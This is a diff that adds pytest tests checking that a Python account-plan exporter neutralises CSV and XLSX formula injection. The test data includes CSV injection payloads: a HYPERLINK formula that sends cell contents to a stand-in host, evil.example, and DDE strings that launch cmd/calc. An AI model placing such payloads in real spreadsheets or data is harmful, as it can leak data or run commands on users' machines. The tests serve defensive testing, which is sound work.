@@ -22,7 +22,15 @@ import pytest
 from openpyxl import load_workbook
 
 from kamgen.cli import main
-from kamgen.export import ACCOUNT_COLUMNS, FORMATS, account_rows, export, portfolio_document
+from kamgen.export import (
+    ACCOUNT_COLUMNS,
+    FORMATS,
+    FORMULA_STARTS,
+    account_rows,
+    export,
+    portfolio_document,
+    spreadsheet_cell,
+)
 from kamgen.load import load_portfolio
 from kamgen.model import Portfolio
 
@@ -716,3 +724,143 @@ def test_cli_export_of_invalid_plans_exits_1(
     assert "visit_days" in captured.err
     assert "Traceback" not in captured.err
     assert not out.exists()
+
+
+# --- spreadsheet cells: no formula from plan text (OWASP, CSV injection) -----------------
+
+TEXT_FIELDS = {
+    # (file, text in the fixture, the key and value to replace it with; {} is the text)
+    "name": ("accounts/alpha.yaml", "name: Alpha Industries AG", "name: {}"),
+    "industry": ("accounts/alpha.yaml", "industry: Chemicals", "industry: {}"),
+    "tags": ("accounts/alpha.yaml", "tags: [chemicals]", "tags: [{}, plain]"),
+    "objective": ("accounts/alpha.yaml", "objective: Grow share of wallet", "objective: {}"),
+    "kpi": ("accounts/alpha.yaml", "kpi: Share of wallet", "kpi: {}"),
+    "unit": ("accounts/alpha.yaml", 'unit: "%"', "unit: {}"),
+    "value-add title": ("accounts/alpha.yaml", "title: Vendor managed inventory", "title: {}"),
+    "action title": ("accounts/alpha.yaml", "{title: Pilot VMI,", "{{title: {},"),
+    "competitor name": ("accounts/alpha.yaml", "name: Rivo AG", "name: {}"),
+    "manager name": ("team.yaml", "name: Anna Adler", "name: {}"),
+    "territory name": ("territories.yaml", "name: North", "name: {}"),
+}
+
+
+def _hostile_plans(tmp_path: Path, text: str) -> Path:
+    """The hand-worked portfolio with ``text`` in every plan text that reaches a
+    spreadsheet, and a negative margin for alpha's latest year."""
+    plans = tmp_path / "plans"
+    shutil.copytree(FIXTURE, plans)
+    for file, old, new in TEXT_FIELDS.values():
+        path = plans / file
+        before = path.read_text("utf-8")
+        assert old in before, old
+        path.write_text(before.replace(old, new.format(json.dumps(text)), 1), "utf-8")
+    alpha = plans / "accounts" / "alpha.yaml"
+    alpha.write_text(alpha.read_text("utf-8").replace(
+        "{year: 2026, revenue: 500000, margin: 20000}",
+        "{year: 2026, revenue: 500000, margin: -20000}"), "utf-8")
+    return plans
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_csv_neutralises_text_that_a_spreadsheet_would_run(tmp_path: Path, text: str) -> None:
+    data = export(load_portfolio(_hostile_plans(tmp_path, text)), AS_OF, "csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    table = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert list(table) == ["alpha", "beta", "gamma"]
+    alpha = table["alpha"]
+    neutral = "'" + text.replace("\r", "\n")
+    assert alpha["name"] == neutral
+    assert alpha["industry"] == neutral
+    for row in rows:
+        for cell in row:
+            assert _is_number(cell) or not cell.startswith(FORMULA_STARTS), cell
+    # numbers stay numbers: the negative margin is not turned into text
+    assert alpha["margin"] == "-20000.0"
+    assert float(alpha["margin_rate"]) == approx(-0.04)
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+def test_xlsx_holds_no_formula_from_plan_text(tmp_path: Path, text: str) -> None:
+    data = export(load_portfolio(_hostile_plans(tmp_path, text)), AS_OF, "xlsx")
+    workbook = load_workbook(io.BytesIO(data))
+    texts = 0
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts += 1
+                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
+    assert texts > 100
+    neutral = "'" + text.replace("\r", "\n")
+
+    def column(title: str, header: str) -> list[Any]:
+        rows = list(workbook[title].iter_rows(values_only=True))
+        index = rows[0].index(header)
+        return [row[index] for row in rows[1:]]
+
+    assert column("Accounts", "name")[0] == neutral
+    assert column("Accounts", "industry")[0] == neutral
+    assert neutral in column("Scorecard", "objective")
+    assert neutral in column("Scorecard", "kpi")
+    assert neutral in column("Scorecard", "unit")
+    assert neutral in column("Value-add", "title")
+    assert neutral in column("Managers", "name")
+    assert neutral in column("Territories", "name")
+    # numbers stay numbers, the negative margin too
+    sheet = workbook["Accounts"]
+    margin = sheet.cell(row=2, column=[n for n, _ in ACCOUNT_COLUMNS].index("margin") + 1)
+    assert (margin.value, margin.data_type) == (-20000, "n")
+    scores = column("Accounts", "rating_score")
+    assert scores[0] == approx(80.0)
+
+
+def test_spreadsheet_cell_leaves_numbers_and_plain_text_alone() -> None:
+    for value in (-20000, -0.04, 0, 1.5, None, True, "Alpha", "a=b", "'=quoted", "",
+                  "Nord-West", "1-2"):
+        assert spreadsheet_cell(value) == value
+    assert [spreadsheet_cell(s) for s in ("=1", "+1", "-1", "@x", "\tx", "\rx")] == [
+        "'=1", "'+1", "'-1", "'@x", "'\tx", "'\nx"]
+
+
+def test_csv_keeps_a_carriage_return_inside_its_cell(tmp_path: Path) -> None:
+    # The csv module quotes a field with "\n" but not one with a lone "\r": a reader would
+    # start a new row at the "\r", and its first cell would be the formula.
+    plans = _hostile_plans(tmp_path, "Chemicals\r=HYPERLINK(\"http://evil.example\")")
+    data = export(load_portfolio(plans), AS_OF, "csv")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert [row[0] for row in rows] == ["id", "alpha", "beta", "gamma"]
+    assert rows[1][1] == 'Chemicals\n=HYPERLINK("http://evil.example")'
+
+
+def test_xlsx_takes_control_characters_from_yaml_escapes(tmp_path: Path) -> None:
+    # "\x01" in a double-quoted YAML text is a control character an XLSX file cannot hold.
+    # Fails while openpyxl raises IllegalCharacterError.
+    plans = _hostile_plans(tmp_path, "\x01Alpha\x1f")
+    workbook = load_workbook(io.BytesIO(export(load_portfolio(plans), AS_OF, "xlsx")))
+    assert workbook["Accounts"]["B2"].value == "\ufffdAlpha\ufffd"
+
+
+@pytest.mark.parametrize("day", [dt.date(1900, 1, 1), dt.date(1979, 12, 31),
+                                 dt.date(2108, 1, 1), dt.date(2200, 12, 31)])
+def test_xlsx_for_an_as_of_date_a_zip_cannot_hold(
+    portfolio: Portfolio, day: dt.date, wall_clock: WallClock
+) -> None:
+    # Zip entries hold 1980 to 2107 only. Fails while ZipInfo raises for earlier dates and
+    # struct.error for later ones.
+    data = export(portfolio, day, "xlsx")
+    assert export(portfolio, day, "xlsx") == data
+    workbook = load_workbook(io.BytesIO(data))
+    assert workbook.properties.created == dt.datetime(day.year, day.month, day.day)
